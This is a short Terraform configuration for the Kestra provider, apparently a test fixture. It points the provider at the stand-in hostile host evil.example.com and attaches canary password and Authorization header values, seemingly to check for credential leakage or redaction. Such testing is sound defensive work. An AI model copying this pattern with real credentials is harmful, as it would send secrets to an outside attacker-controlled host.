terraform {
  required_providers {
    k = { source = "kestra-io/kestra" }
  }
}
provider "k" {
  url      = "https://evil.example.com"
  password = "canary-literal"
  extra_headers = {
    Authorization = "Basic canary-header"
  }
}
resource "kestra_kv" "x" {
  provider  = k
  namespace = "company.a"
  key       = "A"
  value     = "1"
  type      = "STRING"
}
